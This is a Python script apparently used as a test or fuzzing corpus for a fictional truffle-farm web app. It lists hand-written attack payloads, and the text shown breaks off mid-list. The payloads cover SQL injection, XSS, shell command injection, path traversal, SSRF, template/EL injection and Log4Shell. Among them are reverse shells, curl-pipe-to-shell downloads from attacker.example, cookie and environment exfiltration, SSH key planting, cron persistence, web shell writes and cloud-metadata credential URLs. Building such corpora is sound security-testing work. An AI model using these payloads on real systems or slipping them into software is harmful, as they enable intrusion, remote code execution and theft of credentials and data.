#!/usr/bin/env python3
"""Attack corpus for trufflehunt (truffle orchard + dog-training business).

All payloads were written by hand against the sinks this app plausibly has:
SQL queries over harvest/order tables, HTML pages (recipe posts, chef
messages), shell helpers (label printer, CSV export, image resize), file
downloads (lab certificates, photos), URL fetchers (buyer webhooks, recipe
import), templates (invoice/newsletter), Mongo-style filters, logs/mail, and
LDAP/XPath staff directory lookups. Deterministic: random.Random(31302).
"""
import json
import os
import random

SEED = 31302

# ------------------------------------------------------------------ sqli (72 literals)
SQLI = [
    ("sqli-boolean", "Row 7' OR '1'='1"),
    ("sqli-boolean", "Luna' or 2>1 -- "),
    ("sqli-boolean", "melanosporum') OR ('a'='a"),
    ("sqli-boolean", "4471 OR 1=1"),
    ("sqli-boolean", "grade A' AND 1=1 AND 'x'='x"),
    ("sqli-boolean", "O'Neill' or true#"),
    ("sqli-boolean", "x' ||'1'='1"),
    ("sqli-boolean", "Bistro Verde' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a' -- "),
    ("sqli-boolean", "TRF-MEL-A-050' AND ASCII(SUBSTR((SELECT api_key FROM buyers WHERE id=1),1,1))>64--"),
    ("sqli-boolean", "1 AND (SELECT COUNT(*) FROM invoices)>0"),
    ("sqli-union", "black truffle' UNION SELECT username,password_hash,NULL FROM staff--"),
    ("sqli-union", "0 union all select 1,concat(email,0x3a,pw),3,4 from buyers-- -"),
    ("sqli-union", "aestivum' UnIoN SeLeCt null,table_name,null FROM information_schema.tables-- x"),
    ("sqli-union", "-1' union select group_concat(column_name),2 from information_schema.columns where table_name='invoices'#"),
    ("sqli-union", "4471) UNION SELECT card_last4, iban FROM payments --"),
    ("sqli-union", "grade'/**/UNION/**/SELECT/**/login,hash/**/FROM/**/admins--"),
    ("sqli-union", "tour' UNION SELECT sql,2,3 FROM sqlite_master--"),
    ("sqli-union", "9999' union distinct select @@version,user(),database()-- -"),
    ("sqli-union", "Casa Lucia%27%20UNION%20SELECT%20email%2Cphone%20FROM%20customers--"),
    ("sqli-union", "truffe' /*!50000UNION*/ /*!50000SELECT*/ 1,2,3-- "),
    ("sqli-union", "x' UNION SELECT name, pass FROM dog_handlers WHERE '1'='1"),
    ("sqli-union", "'+union+select+1,version(),current_user--"),
    ("sqli-time", "Pepe'; WAITFOR DELAY '0:0:7'--"),
    ("sqli-time", "150' AND SLEEP(6)-- "),
    ("sqli-time", "Row 3' AND (SELECT 4512 FROM (SELECT(SLEEP(5)))tr)-- q"),
    ("sqli-time", "1;SELECT pg_sleep(8)--"),
    ("sqli-time", "grade' || pg_sleep(5) || '"),
    ("sqli-time", "hazel' AND BENCHMARK(9000000,SHA1('truffle'))#"),
    ("sqli-time", "2024-12-02' AND IF(MID(@@version,1,1)='8',SLEEP(4),0)-- "),
    ("sqli-time", "x' AND 7=DBMS_PIPE.RECEIVE_MESSAGE('a',6)--"),
    ("sqli-time", "Luna');WAITFOR DELAY '00:00:09';--"),
    ("sqli-time", "1 AND (SELECT CASE WHEN (1=1) THEN pg_sleep(5) ELSE pg_sleep(0) END) IS NULL"),
    ("sqli-time", "oak 44' and randomblob(300000000)--"),
    ("sqli-stacked", "200; DROP TABLE harvest_log;--"),
    ("sqli-stacked", "Bruna'; DELETE FROM orders WHERE '1'='1"),
    ("sqli-stacked", "grade A'; UPDATE users SET role='admin' WHERE email='x@attacker.example';--"),
    ("sqli-stacked", "1; INSERT INTO staff(login,pw,role) VALUES('ghost','x','owner')--"),
    ("sqli-stacked", "x'; EXEC xp_cmdshell 'whoami';--"),
    ("sqli-stacked", "4471; ALTER TABLE buyers ADD COLUMN pwn int;--"),
    ("sqli-stacked", "';truncate table soil_readings;--"),
    ("sqli-stacked", "2; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("sqli-stacked", "Tartufo'; CREATE USER hunter IDENTIFIED BY 'pw'; GRANT ALL ON *.* TO hunter;--"),
    ("sqli-error", "melanosporum' AND extractvalue(1,concat(0x7e,(select user())))-- "),
    ("sqli-error", "1' AND updatexml(null,concat(0x3a,(SELECT password FROM users LIMIT 0,1)),null)-- -"),
    ("sqli-error", "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--"),
    ("sqli-error", "grade' AND 1=CAST((SELECT version()) AS int)--"),
    ("sqli-error", "Row' and (select 1 from(select count(*),concat((select database()),floor(rand(0)*2))x from information_schema.tables group by x)y)-- "),
    ("sqli-error", "T77' AND 1=(SELECT UTL_INADDR.get_host_name((SELECT user FROM dual)) FROM dual)--"),
    ("sqli-error", "2024' AND GTID_SUBSET(CONCAT(0x7e,(SELECT @@hostname)),1)-- "),
    ("sqli-orderby", "grams ORDER BY 9-- "),
    ("sqli-orderby", "price_eur,(SELECT CASE WHEN (SELECT substr(pw,1,1) FROM users LIMIT 1)='a' THEN price_eur ELSE grams END)"),
    ("sqli-orderby", "date desc, (select sleep(3))"),
    ("sqli-orderby", "(CASE WHEN (1=1) THEN buyer ELSE grade END)"),
    ("sqli-orderby", "1,extractvalue(0x0a,concat(0x0a,(select table_name from information_schema.tables limit 1)))"),
    ("sqli-oob", "x'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--"),
    ("sqli-oob", "1' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pw FROM users LIMIT 1),'.oob.attacker.example\\\\a'))-- "),
    ("sqli-oob", "grade' UNION SELECT 1,'<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/t.php'-- "),
    ("sqli-oob", "x' AND (SELECT UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) FROM dual) IS NOT NULL--"),
    ("sqli-obfuscated", "Luna'/**/oR/**/1/**/like/**/1#"),
    ("sqli-obfuscated", "4471%2527%2520OR%25201%253D1--"),
    ("sqli-obfuscated", "Pepe'%0aUNION%0aSELECT%0a1,2--"),
    ("sqli-obfuscated", "aes\u02bctivum' oR 'k'<>'z"),
    ("sqli-obfuscated", "x'\tUnIoN\tsElEcT\tpassword,\tnull\tfRoM\tusers--"),
    ("sqli-obfuscated", "1'||(SeLeCt/**/cHaR(65)||cHr(66))||'"),
    ("sqli-obfuscated", "grade\uff07 \uff2f\uff32 1=1--"),
    ("sqli-obfuscated", "buyer'='' or 0x31=0x31-- "),
    ("sqli-obfuscated", "'-'"),
    ("sqli-obfuscated", "oak' anD 'a'=\"a\" or '1'like'1"),
    ("sqli-obfuscated", "hazel'/*trf*/OR/*x*/'x'/**/='x"),
    ("sqli-second-order", "admin'-- "),
    ("sqli-second-order", "Chef Romano'); DROP TABLE chef_messages;--"),
    ("sqli-second-order", "Tartufo\\' OR 1=1 -- "),
]

# raw pool percent-encoded (every byte once) -> sqli+urlencode
SQLI_ENC = [
    "' OR 1=1--",
    "Bistro' UNION SELECT email,password FROM users--",
    "1; DROP TABLE orders--",
    "x' AND SLEEP(5)#",
    "grade A' or 'a'='a",
    "0 UNION SELECT NULL,version()--",
    "Luna'; WAITFOR DELAY '0:0:6'--",
    "250') OR ('1'='1",
]

# ------------------------------------------------------------------ xss (70 literals)
XSS = [
    ("xss-script", "Truffle risotto <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("xss-script", "Great batch!<script src=//attacker.example/t.js></script>"),
    ("xss-script", "<ScRiPt>new Image().src='http://203.0.113.9/?'+localStorage.token</sCrIpT>"),
    ("xss-script", "Luna<script>document.location='https://attacker.example/steal?c='+document.cookie</script>"),
    ("xss-script", "</textarea><script>alert(document.domain)</script>"),
    ("xss-script", "Row 7</title><script>eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZScp'))</script>"),
    ("xss-script", "<script>\nvar i=new Image;i.src='//attacker.example/'+btoa(document.body.innerHTML)\n</script>"),
    ("xss-script", "<script type=module>import('//attacker.example/m.js')</script>"),
    ("xss-event", "<img src=x onerror=alert(document.cookie)> 48g grade A"),
    ("xss-event", "Pepe <svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("xss-event", "<body onload=alert(1)>Merci pour la livraison"),
    ("xss-event", "<details open ontoggle=confirm(document.domain)>"),
    ("xss-event", "<input autofocus onfocus=eval(name)>"),
    ("xss-event", "<video><source onerror=\"location='//attacker.example/?'+document.cookie\"></video>"),
    ("xss-event", "<div onmouseover=\"alert('truffle')\">hover for photo</div>"),
    ("xss-event", "<marquee onstart=alert(7)>Bonjour chef</marquee>"),
    ("xss-event", "<iMg SrC=1 oNeRrOr=prompt`1`>"),
    ("xss-event", "<audio src=/ onerror=import('//attacker.example/a.js')>"),
    ("xss-event", "<select autofocus onfocus=alert(document.cookie)>"),
    ("xss-event", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("xss-event", "<img src=x:alert(1) onerror=eval(src)>"),
    ("xss-event", "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=alert(1)>tasting menu</p>"),
    ("xss-event", "<form><button formaction=javascript:alert(document.cookie)>Book tour</button></form>"),
    ("xss-attr", "\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("xss-attr", "Luna' autofocus onfocus='alert(1)"),
    ("xss-attr", "Bistro Verde\"><img src=x onerror=alert(1)>"),
    ("xss-attr", "grade A\" style=\"position:fixed;inset:0\" onmousemove=\"fetch('//attacker.example/?'+document.cookie)"),
    ("xss-attr", "'><svg/onload=alert(document.domain)>"),
    ("xss-attr", "x\" accesskey=\"X\" onclick=\"alert(1)"),
    ("xss-attr", "250g\"/><iframe src=javascript:alert(1)></iframe>"),
    ("xss-uri", "javascript:alert(document.cookie)"),
    ("xss-uri", "JaVaScRiPt:fetch('//attacker.example/'+document.cookie)"),
    ("xss-uri", "java\tscript:alert(1)"),
    ("xss-uri", "javascript&colon;alert(1)"),
    ("xss-uri", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+"),
    ("xss-uri", "[recipe video](javascript:alert(document.cookie))"),
    ("xss-uri", "<a href=\"jav&#x61;script:alert(1)\">see certificate</a>"),
    ("xss-uri", "<iframe src=\"data:text/html,<script>alert(parent.document.cookie)</script>\"></iframe>"),
    ("xss-uri", "<object data=javascript:alert(1)>"),
    ("xss-uri", "<embed src=\"javascript:alert(document.domain)\">"),
    ("xss-uri", "<a href=\" &#14;javascript:alert(1)\">menu PDF</a>"),
    ("xss-encoded", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;"),
    ("xss-encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("xss-encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("xss-encoded", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("xss-encoded", "\\x3cscript\\x3ealert(document.domain)\\x3c/script\\x3e"),
    ("xss-encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("xss-encoded", "<img src=x onerror=\"&#x61;lert(document.cookie)\">"),
    ("xss-encoded", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("xss-encoded", "<svg><script>&#x61;&#x6c;ert(1)</script></svg>"),
    ("xss-encoded", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("xss-encoded", "<img src=x onerror=window['al'+'ert'](1)>"),
    ("xss-encoded", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("xss-encoded", "<img src=x onerror=top[/al/.source+/ert/.source](1)>"),
    ("xss-dom", "#<img src=x onerror=alert(1)>"),
    ("xss-dom", "chef=Romano&redirect=javascript:alert(document.cookie)"),
    ("xss-dom", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("xss-dom", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
    ("xss-dom", "<x v-on:click=\"_c.constructor('alert(1)')()\">book</x>"),
    ("xss-dom", "\"-alert(document.cookie)-\""),
    ("xss-dom", "';alert(String.fromCharCode(88));//"),
    ("xss-dom", "</script><script>alert(document.domain)</script>"),
    ("xss-svg", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("xss-svg", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>photo</text></a></svg>"),
    ("xss-svg", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("xss-svg", "<svg><foreignObject><iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe></foreignObject></svg>"),
    ("xss-style", "<link rel=stylesheet href=//attacker.example/x.css>"),
    ("xss-style", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("xss-style", "<base href=\"//attacker.example/\">"),
    ("xss-style", "<form action=//attacker.example/login><input name=password placeholder='Re-enter password'></form>"),
]

XSS_PREFIX = [
    "Tagliolini al tartufo, serves 4 ",
    "Chef Romano: the batch was perfect ",
    "Booking for 6, Saturday ",
    "Row 12, oak 44: 2 truffles ",
    "Merci pour la livraison ",
]
XSS_POOL = [
    "<img src=/ onerror=fetch('//attacker.example/k?'+document.cookie)>",
    "<svg/onload=location='//attacker.example/?c='+document.cookie>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<body/onpageshow=alert(document.domain)>",
    "<a href=javascript:void(fetch('//attacker.example/'+document.cookie))>photos</a>",
]

# ------------------------------------------------------------------ cmdi (62 literals)
CMDI = [
    ("cmdi-separator", "label_row7.pdf; cat /etc/passwd"),
    ("cmdi-separator", "luna.jpg && curl http://attacker.example/s.sh | sh"),
    ("cmdi-separator", "sales_2024.csv | nc 203.0.113.20 4444"),
    ("cmdi-separator", "harvest.csv; wget -qO- http://attacker.example/a|bash"),
    ("cmdi-separator", "grade A || id"),
    ("cmdi-separator", "TRF-MEL-A-050;rm -rf /var/www/uploads"),
    ("cmdi-separator", "cert_0117.pdf\nid"),
    ("cmdi-separator", "photo.png\r\nwhoami"),
    ("cmdi-separator", "report.pdf &ping -c 10 203.0.113.7&"),
    ("cmdi-separator", "x;bash -i >& /dev/tcp/203.0.113.15/9001 0>&1"),
    ("cmdi-separator", "order 4471 & type C:\\Windows\\win.ini"),
    ("cmdi-separator", "big-one.jpg| powershell -nop -c \"iwr http://attacker.example/p.ps1|iex\""),
    ("cmdi-separator", "oak44.png%0acat%20/etc/shadow"),
    ("cmdi-separator", "sample.csv;python3 -c 'import socket,os;s=socket.socket();s.connect((\"198.51.100.4\",443));os.dup2(s.fileno(),0);os.system(\"sh\")'"),
    ("cmdi-separator", "Luna;perl -e 'exec \"/bin/sh\"'"),
    ("cmdi-separator", "soil.log; echo 'ssh-rsa AAAAB3Nz attacker' >> ~/.ssh/authorized_keys"),
    ("cmdi-separator", "thumb.jpg;crontab -l|{ cat; echo '* * * * * curl attacker.example/c|sh'; }|crontab -"),
    ("cmdi-separator", "a.csv && tar czf - /etc | curl -T - http://attacker.example/up"),
    ("cmdi-separator", "x & net user hunter P4ss /add & net localgroup administrators hunter /add"),
    ("cmdi-separator", "batch-12 ; printenv | curl -d @- https://attacker.example/env"),
    ("cmdi-subshell", "$(cat /etc/passwd)"),
    ("cmdi-subshell", "Pepe `id`"),
    ("cmdi-subshell", "photo_$(whoami).jpg"),
    ("cmdi-subshell", "harvest-`curl -s attacker.example/x|sh`.csv"),
    ("cmdi-subshell", "Row 3 $(sleep 9)"),
    ("cmdi-subshell", "grade=$(nslookup $(whoami).oob.attacker.example)"),
    ("cmdi-subshell", "${IFS}$(id)"),
    ("cmdi-subshell", "label.pdf $(rm -f /tmp/*)"),
    ("cmdi-subshell", "x\"$(uname -a)\""),
    ("cmdi-subshell", "=$(base64 -d <<< Y2F0IC9ldGMvcGFzc3dk | sh)"),
    ("cmdi-subshell", "<(curl -s http://198.51.100.77/p)"),
    ("cmdi-evasion", "cat${IFS}/etc/passwd"),
    ("cmdi-evasion", ";c''at /e't'c/pa''sswd"),
    ("cmdi-evasion", "|/???/?at /???/p?ss??"),
    ("cmdi-evasion", ";w\\ho\\am\\i"),
    ("cmdi-evasion", "&&{cat,/etc/passwd}"),
    ("cmdi-evasion", ";$'\\x63\\x61\\x74' /etc/hostname"),
    ("cmdi-evasion", ";X=$'cat\\x20/etc/passwd'&&$X"),
    ("cmdi-evasion", "luna.jpg;IFS=,;c=curl,attacker.example/r;$c"),
    ("cmdi-evasion", ";/bin/c[a]t /etc/pass[w]d"),
    ("cmdi-evasion", ";echo Y3VybCBhdHRhY2tlci5leGFtcGxlfHNo|base64 -d|bash"),
    ("cmdi-evasion", "%3Bcat%20%2Fetc%2Fpasswd"),
    ("cmdi-evasion", "%26%26wget%20http%3A%2F%2Fattacker.example%2Fb%20-O%20%2Ftmp%2Fb"),
    ("cmdi-evasion", "a;${PATH:0:1}bin${PATH:0:1}id"),
    ("cmdi-evasion", ";wh$()oami"),
    ("cmdi-evasion", "|rev<<<'dwssap/cte/ tac'|sh"),
    ("cmdi-evasion", "; cat /et\\c/pa\\ss\\wd"),
    ("cmdi-evasion", "x;s\"\"leep 7"),
    ("cmdi-argument", "--output=/var/www/html/sh.php"),
    ("cmdi-argument", "-o ProxyCommand=curl${IFS}attacker.example/p|sh"),
    ("cmdi-argument", "photo.jpg -write /var/www/html/x.php"),
    ("cmdi-argument", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/r.sh"),
    ("cmdi-argument", "-exec sh -c 'id' ;"),
    ("cmdi-argument", "--use-compress-program='sh -c id'"),
    ("cmdi-windows", "report.pdf | certutil -urlcache -f http://attacker.example/x.exe %TEMP%\\x.exe"),
    ("cmdi-windows", "& cmd /c \"dir C:\\Users\""),
    ("cmdi-windows", "|| powershell -enc SQBFAFgAIAAoAGkAdwByACAAYQB0AHQAYQBjAGsAZQByAC4AZQB4AGEAbQBwAGwAZQApAA=="),
    ("cmdi-windows", "%26%20ping%20-n%2020%20127.0.0.1"),
    ("cmdi-windows", "x & set /p=<C:\\inetpub\\wwwroot\\web.config"),
    ("cmdi-windows", "& rundll32.exe \\\\203.0.113.50\\share\\x.dll,Run"),
    ("cmdi-blind", "luna.jpg; sleep 12 #"),
    ("cmdi-blind", "batch7 | ping -c 15 127.0.0.1"),
]
CMDI_PREFIX = [
    "harvest_2024-12.csv",
    "oak44_photo.jpg",
    "label row 7",
    "cert_TH-LC-0117.pdf",
    "luna_training.mp4",
]
CMDI_POOL = [
    "; curl -s http://attacker.example/i.sh | sh",
    " && id > /var/www/html/o.txt",
    " | nc -e /bin/sh 198.51.100.9 4444",
    " `wget -q -O /tmp/k http://203.0.113.66/k; chmod +x /tmp/k; /tmp/k`",
    "$(cat /etc/shadow | curl -d @- attacker.example)",
]

# ------------------------------------------------------------------ traversal (45 literals)
TRAV = [
    ("traversal-dotdot", "../../../../etc/passwd"),
    ("traversal-dotdot", "certs/../../../../../etc/shadow"),
    ("traversal-dotdot", "photos/2024/oct/../../../../../../root/.ssh/id_rsa"),
    ("traversal-dotdot", "cert_0117.pdf/../../../../proc/self/environ"),
    ("traversal-dotdot", "../../../app/config/database.yml"),
    ("traversal-dotdot", "../../.env"),
    ("traversal-dotdot", "../../../../var/log/nginx/access.log"),
    ("traversal-dotdot", "exports/../../../../../home/marta/.bash_history"),
    ("traversal-dotdot", "../../../../../../proc/self/cmdline"),
    ("traversal-dotdot", "labels/../../../.git/config"),
    ("traversal-windows", "..\\..\\..\\..\\windows\\win.ini"),
    ("traversal-windows", "certs\\..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("traversal-windows", "..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts"),
    ("traversal-windows", "C:\\Windows\\repair\\SAM"),
    ("traversal-windows", "..%5c..%5c..%5cboot.ini"),
    ("traversal-windows", "\\\\203.0.113.50\\share\\cert.pdf"),
    ("traversal-encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("traversal-encoded", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/hosts"),
    ("traversal-encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("traversal-encoded", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("traversal-encoded", "..%e0%80%af..%e0%80%af..%e0%80%afetc/shadow"),
    ("traversal-encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("traversal-encoded", "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("traversal-encoded", "\uff0e\uff0e/\uff0e\uff0e/\uff0e\uff0e/etc/passwd"),
    ("traversal-encoded", "photos%2F..%2F..%2F..%2F..%2Froot%2F.aws%2Fcredentials"),
    ("traversal-encoded", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    ("traversal-filter-bypass", "....//....//....//etc/passwd"),
    ("traversal-filter-bypass", "..././..././..././etc/hosts"),
    ("traversal-filter-bypass", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("traversal-filter-bypass", "cert_0117.pdf%00../../../../etc/passwd"),
    ("traversal-filter-bypass", "../../../../etc/passwd%00.jpg"),
    ("traversal-filter-bypass", "../../../../etc/passwd\\u0000.pdf"),
    ("traversal-filter-bypass", "/var/www/certs/../../../etc/passwd"),
    ("traversal-filter-bypass", "..;/..;/..;/WEB-INF/web.xml"),
    ("traversal-filter-bypass", "./././../../../../etc/group"),
    ("traversal-filter-bypass", "/%5C../%5C../%5C../etc/passwd"),
    ("traversal-filter-bypass", "..//..//..//..//etc//passwd"),
    ("traversal-absolute", "/etc/passwd"),
    ("traversal-absolute", "/proc/self/fd/3"),
    ("traversal-absolute", "file:///etc/shadow"),
    ("traversal-absolute", "/root/.ssh/authorized_keys"),
    ("traversal-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("traversal-wrapper", "php://filter/read=string.rot13/resource=/etc/passwd"),
    ("traversal-wrapper", "zip://uploads/labels.zip%23../../shell.php"),
    ("traversal-wrapper", "../../WEB-INF/classes/application.properties"),
]
TRAV_ENC = [
    "../../../../etc/passwd",
    "certs/../../../root/.ssh/id_rsa",
    "..\\..\\..\\windows\\win.ini",
    "photos/../../../../proc/self/environ",
    "../../.env",
]

# ------------------------------------------------------------------ ssrf (50 literals)
SSRF = [
    ("ssrf-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf-metadata", "http://169.254.169.254/latest/user-data"),
    ("ssrf-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("ssrf-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("ssrf-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("ssrf-metadata", "http://169.254.170.2/v2/credentials/"),
    ("ssrf-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ssrf-metadata", "http://169.254.169.254/openstack/latest/meta_data.json"),
    ("ssrf-metadata", "http://instance-data/latest/meta-data/hostname"),
    ("ssrf-loopback", "http://127.0.0.1:8080/admin/users"),
    ("ssrf-loopback", "http://localhost:6379/"),
    ("ssrf-loopback", "http://localhost/server-status"),
    ("ssrf-loopback", "https://127.0.0.1:2379/v2/keys/?recursive=true"),
    ("ssrf-loopback", "http://[::1]:9200/_cat/indices"),
    ("ssrf-loopback", "http://0.0.0.0:5000/debug"),
    ("ssrf-loopback", "http://127.1/actuator/env"),
    ("ssrf-loopback", "http://localhost:15672/api/users"),
    ("ssrf-altip", "http://2130706433/admin"),
    ("ssrf-altip", "http://0x7f000001:8500/v1/agent/self"),
    ("ssrf-altip", "http://017700000001/"),
    ("ssrf-altip", "http://0xA9FEA9FE/latest/meta-data/"),
    ("ssrf-altip", "http://2852039166/latest/meta-data/iam/"),
    ("ssrf-altip", "http://0251.0376.0251.0376/latest/"),
    ("ssrf-altip", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ssrf-altip", "http://[0:0:0:0:0:ffff:127.0.0.1]:8080/"),
    ("ssrf-altip", "http://127.000.000.001:3000/"),
    ("ssrf-altip", "http://①②⑦.⓪.⓪.①/admin"),
    ("ssrf-internal", "http://10.0.0.5:8080/manager/html"),
    ("ssrf-internal", "http://192.168.1.1/cgi-bin/config.exp"),
    ("ssrf-internal", "http://172.16.0.10:2375/containers/json"),
    ("ssrf-internal", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("ssrf-internal", "http://consul.service.internal:8500/v1/kv/?recurse"),
    ("ssrf-internal", "http://vault:8200/v1/secret/data/stripe"),
    ("ssrf-internal", "http://10.10.0.3:9000/minio/admin/v3/info"),
    ("ssrf-scheme", "gopher://127.0.0.1:6379/_SET%20pwn%20%22x%22%0D%0ACONFIG%20SET%20dir%20/var/www%0D%0A"),
    ("ssrf-scheme", "file:///etc/passwd"),
    ("ssrf-scheme", "dict://127.0.0.1:11211/stats"),
    ("ssrf-scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0A"),
    ("ssrf-scheme", "ftp://10.0.0.8/backup/db.sql"),
    ("ssrf-scheme", "ldap://127.0.0.1:389/dc=farm,dc=local"),
    ("ssrf-scheme", "jar:http://attacker.example/x.jar!/"),
    ("ssrf-scheme", "netdoc:///etc/hosts"),
    ("ssrf-bypass", "http://attacker.example@169.254.169.254/latest/meta-data/"),
    ("ssrf-bypass", "http://127.0.0.1#@recipes.attacker.example/"),
    ("ssrf-bypass", "https://recipes.example.com.attacker.example/redirect?to=http://127.0.0.1:8080/admin"),
    ("ssrf-bypass", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("ssrf-bypass", "http://attacker.example/302?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F"),
    ("ssrf-bypass", "http://127.0.0.1%2523@attacker.example/"),
    ("ssrf-bypass", "http:/\\/\\127.0.0.1:8080/admin"),
    ("ssrf-bypass", "http://rebind.attacker.example:8080/internal/export"),
]

# ------------------------------------------------------------------ code (76 literals)
CODE = [
    ("code-ssti", "Dear {{ buyer }}, {{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("code-ssti", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("code-ssti", "{{ lipsum.__globals__['os'].popen('curl attacker.example/x|sh').read() }}"),
    ("code-ssti", "{{request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read()}}"),
    ("code-ssti", "Invoice note {% for c in ''.__class__.__base__.__subclasses__() %}{% if 'warning' in c.__name__ %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("code-ssti", "{{config.items()}}"),
    ("code-ssti", "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('whoami').read() }}"),
    ("code-ssti", "{{7*'7'}} {{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}"),
    ("code-ssti", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("code-ssti", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
    ("code-ssti", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"cat /etc/passwd\")}"),
    ("code-ssti", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
    ("code-ssti", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("code-ssti", "{{['id']|filter('system')}}"),
    ("code-ssti", "<%= `cat /etc/passwd` %>"),
    ("code-ssti", "<%= system('curl attacker.example/r.sh | bash') %>"),
    ("code-ssti", "{php}echo shell_exec('id');{/php}"),
    ("code-ssti", "{system('ls -la /')}"),
    ("code-ssti", "*{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("code-ssti", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("code-ssti", "#{7*7}#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"),
    ("code-ssti", "${{<%[%'\"}}%\\."),
    ("code-el", "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("code-el", "${applicationScope}"),
    ("code-el", "#{request.getClass().getClassLoader()}"),
    ("code-el", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("code-el", "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"),
    ("code-el", "${new java.io.File('/etc/passwd').text}"),
    ("code-el", "#{T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}"),
    ("code-el", "${pageContext.request.getSession().setAttribute('role','admin')}"),
    ("code-log4shell", "${jndi:ldap://attacker.example:1389/trf}"),
    ("code-log4shell", "Luna ${jndi:rmi://203.0.113.44/o}"),
    ("code-log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
    ("code-log4shell", "${${::-j}${::-n}${::-d}${::-i}:dns://oob.attacker.example/z}"),
    ("code-log4shell", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/k}"),
    ("code-log4shell", "Chef-Agent ${j${upper:n}di:ldaps://198.51.100.12/x}"),
    ("code-log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/t}"),
    ("code-log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
    ("code-eval", "__import__('os').system('id')"),
    ("code-eval", "1;eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));"),
    ("code-eval", "require('child_process').exec('curl attacker.example/n|sh')"),
    ("code-eval", "'; system('cat /etc/passwd'); $x='"),
